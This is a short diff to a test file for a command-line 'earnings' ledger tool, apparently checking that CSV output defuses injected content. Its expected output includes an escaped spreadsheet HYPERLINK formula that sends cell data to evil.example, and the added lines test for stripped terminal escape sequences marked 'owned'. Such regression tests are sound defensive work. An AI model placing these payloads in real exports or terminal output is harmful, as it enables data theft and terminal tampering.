@@ -187,6 +187,9 @@ describe('the ledger', () => {
     const csv = await cli(['earnings', '--config', cfg, '--since', '1h', '--csv', '--by', 'model']);
     expect(csv.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
     expect(csv.stdout).not.toMatch(/^"?=/m);
+    expect(csv.stdout).toMatch(/^nope \[2J \]0;owned /m);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not reach the terminal
+    expect(csv.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
     const db = new Database(ledgerFile(), { readonly: true });
     expect(db.pragma('user_version', { simple: true })).toBe(4);
     // The old row is in the quarter-hour summaries `earnings` reads (backfilled once).
